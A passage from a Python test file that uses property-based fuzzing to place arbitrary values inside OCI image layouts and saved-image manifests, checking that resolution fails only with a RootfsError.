        if not keys:
            return
        key = keys[step % len(keys)]
        if not isinstance(document[key], dict | list) or step == place[-1]:
            document[key] = value
            return
        document = document[key]


def resolve(location: Path) -> None:
    """Read all documents; what is unpacked afterwards is known by their digests alone."""
    OciSource().resolve(wish_for(location), Workshop(location.parent / "shop").means)


@pytest.mark.timeout(600)
@given(which=st.sampled_from(["index", "manifest", "config"]), place=PLACES, value=VALUES)
def test_any_value_anywhere_in_a_layout(which: str, place: list[int], value: object) -> None:
    with tempfile.TemporaryDirectory() as top:
        layout = LayoutMaker(Path(top) / "layout")
        layout.add(
            [BASE],
            ref="one",
            platform={"os": "linux", "architecture": "amd64"},
            change=lambda manifest, config: put(
                {"manifest": manifest, "config": config, "index": {}}[which], place, value
            ),
        )
        if which == "index":
            put(layout.index, place, value)
        with suppress(RootfsError):
            resolve(layout.write())


@pytest.mark.timeout(600)
@given(which=st.sampled_from(["manifest", "config"]), place=PLACES, value=VALUES)
def test_any_value_anywhere_in_what_was_saved(which: str, place: list[int], value: object) -> None:
    with tempfile.TemporaryDirectory() as top:
        saved = Saved(Path(top) / "saved")
        if which == "config":
            put(saved.config, place, value)
        saved.write()
        if which == "manifest":
            path = saved.top / "manifest.json"
            entries = json.loads(path.read_bytes())
            put(entries, place, value)
            path.write_bytes(to_json(entries))
        with suppress(RootfsError):
            resolve(saved.top)
